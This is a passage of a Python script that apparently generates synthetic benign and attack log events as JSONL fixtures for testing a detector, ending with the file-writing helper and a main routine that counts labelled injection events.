                     "/api/v2/search", "shop-api", {"limit": "100/min", "user_agent": "scrapy/2.11"})
        line.update(group="rate-burst", expect="rate_abuse" if index == 19 else None)
        events.append(line)
    return events


def write(name, events):
    with open(os.path.join(HERE, name), "w", encoding="utf-8") as out:
        for line in events:
            out.write(json.dumps(line, ensure_ascii=False, separators=(",", ":")) + "\n")


def main():
    benign_events = benign(random.Random(20260105))
    attack_events = attacks(random.Random(1337))
    write("benign.jsonl", benign_events)
    write("attacks.jsonl", attack_events)
    injections = sum(1 for line in attack_events if line["expect"] == "injection")
    print(f"benign.jsonl: {len(benign_events)} events")
    print(f"attacks.jsonl: {len(attack_events)} events, {injections} injection payloads")


if __name__ == "__main__":
    main()
